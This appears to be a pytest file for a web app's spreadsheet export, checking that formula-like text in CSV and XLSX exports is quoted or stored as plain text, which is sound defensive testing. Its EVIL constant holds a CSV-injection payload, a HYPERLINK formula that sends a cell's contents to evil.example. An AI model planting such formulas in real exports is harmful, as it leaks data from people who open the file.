"""Exports are safe to open: a text that begins like a formula (=, +, -, @) is written as
text in XLSX and behind a quote in CSV, whoever typed it (an area's name, a person's name);
an exported staff list still imports as it was."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.services import cells
from app.services.admin import imports
from tests.work_helpers import client_for, dispatched

EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+8613800000000", "'+8613800000000"), ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("解放大道", "解放大道"), (-2, -2),
    ("a=b", "a=b"), ("", ""),
])
def test_formula_like_texts_are_quoted_in_csv(value, safe):
    assert cells.csv_safe(value) == safe
    assert cells.csv_unescape(cells.csv_safe(value)) == value


def _poisoned(city, t0):
    city.area.name_zh = city.area.name_en = EVIL
    city.chief.display_name = "@chief"
    db.session.commit()
    return dispatched(city, t0)


def test_the_cases_export_writes_formula_like_names_as_text(city, app, t0):
    case = _poisoned(city, t0)
    client = client_for(app, city.city_supervisor)
    body = client.get("/supervise/export/cases.csv?month=2026-11&lang=en").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    row = next(r for r in rows if r[0] == case.code)
    assert "'" + EVIL in row and any(cell.startswith("'@chief") for cell in row)
    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r)

    data = client.get("/supervise/export/cases.xlsx?month=2026-11&lang=en").get_data()
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    found = [c for r in sheet.iter_rows() for c in r if c.value == EVIL]
    assert found and all(c.data_type == "s" for c in found)
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_staff_list_with_phone_numbers_imports_as_it_was(fmt):
    rows = [{"username": "lz-1", "phone": "+8613800000001", "display_name": "=坏名字"}]
    data = imports.write_table(["username", "phone", "display_name"], rows, fmt)
    if fmt == "csv":
        assert b"'+8613800000001" in data and b"'=" in data
        read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
        assert [cells.csv_unescape(v) for v in read] == ["lz-1", "+8613800000001", "=坏名字"]
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        values = [(c.value, c.data_type) for c in list(sheet.iter_rows())[1]]
        assert values == [("lz-1", "s"), ("+8613800000001", "s"), ("=坏名字", "s")]
